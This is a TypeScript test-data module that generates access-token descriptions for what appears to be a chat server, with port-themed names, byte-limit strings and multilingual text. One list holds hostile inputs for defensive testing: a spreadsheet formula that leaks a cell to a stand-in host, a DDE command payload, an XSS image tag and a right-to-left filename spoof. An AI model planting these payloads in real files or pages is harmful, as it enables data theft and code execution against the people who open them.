import type { Random } from './random.ts'

const SYSTEMS = [
  'Jenkins',
  'Grafana',
  'Terraform',
  'Ansible',
  'GitLab',
  'Zapier',
  'Power BI',
  'SAP',
  'Berth plan',
  'Crane log',
  'Tide table',
  'Customs feed',
  'Ferry timetable',
  'Yard map',
  'Gate camera',
  'Payroll',
  'Shift calendar',
  'Backup',
  'Prometheus',
  'Wiki',
  'Ticket desk',
  'Weather',
  'Pilot roster',
  'Container scan',
  'Door locks',
] as const
const PURPOSES = [
  'alerts',
  'nightly export',
  'sync',
  'import',
  'dashboard',
  'webhook relay',
  'report',
  'cleanup script',
  'reminder',
  'monitoring',
  'to chat',
  'status page',
  'test run',
  'archive',
] as const
const PLACES = [
  '',
  '',
  '',
  ' (staging)',
  ' (production)',
  ' on quay-3',
  ' on jump host',
  ' v2',
  ' — old',
  ' for shift B',
] as const
const SENTENCES = [
  'Local script on my laptop',
  'mmctl',
  'Reads channel statistics for the monthly report',
  'Posting from the tug Sigrid',
  'CI',
  'n8n',
  'Migration helper, delete when done',
  'Hubot',
  'Python client',
  'Nattlig säkerhetskopia',
  'Kranüberwachung',
  'Exportação de turnos',
  'Kopia zapasowa kanałów',
  '港湾カレンダー同期',
  '码头看板',
  'Ειδοποιήσεις φέρι',
] as const

/** What people write into the description of a token. */
export function describeToken(random: Random): string {
  if (random.chance(0.15)) return random.pick(SENTENCES)
  return `${random.pick(SYSTEMS)} ${random.pick(PURPOSES)}${random.pick(PLACES)}`
}

function cutToBytes(text: string, bytes: number): string {
  const encoder = new TextEncoder()
  let out = ''
  let left = bytes
  for (const letter of text) {
    left -= encoder.encode(letter).length
    if (left < 0) break
    out += letter
  }
  return out + '.'.repeat(bytes - encoder.encode(out).length)
}

const LONG =
  'Reads the berth plan every five minutes and posts arrivals, departures and late pilots to the quay channel; asked for by the shift leaders, installed on quay-3, ask Tom before you change anything here, the night shift depends on it and will call you at home'
const LONG_MIXED = 'Überwachung der Kräne: störung → meldung an den bereitschaftsdienst 🏗️ クレーン監視 '

/** Exactly as long as the server allows: 255 bytes, once of plain letters, once of letters of several bytes. */
export const LONGEST_DESCRIPTIONS: readonly [string, string] = [
  cutToBytes(`${LONG} ${LONG}`, 255),
  cutToBytes(LONG_MIXED.repeat(4), 255),
]

/** Descriptions that say nothing. */
export const WEAK_DESCRIPTIONS = ['test', 'tmp', 'asdf', 'token', 'new', 'x', '123', 'Test', 'foo'] as const

/** Three spaces: the server takes it. */
export const BLANK_DESCRIPTION = '   '

/** What a careless or a wicked person writes: each must show as text, and leave a spreadsheet alone. */
export const AWKWARD_DESCRIPTIONS = [
  '=HYPERLINK("https://example.org/?leak="&A1,"open me")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '-2+3',
  '<b>bold</b> <img src=x onerror=alert(1)>',
  'build\tserver\t7',
  'first line\nsecond line',
  'invoice\u202Efdp.exe',
  '"quoted", with, commas',
  '🚢 Ferry arrivals 🛟',
  'damn Jenkins, just work for once',
] as const

/** Written from right to left, the last one both ways. */
export const RIGHT_TO_LEFT_DESCRIPTIONS = [
  'גיבוי לילי של לוח המשמרות',
  'مزامنة جدول الأرصفة',
  'API — מפתח לעגורן 7 (staging)',
] as const
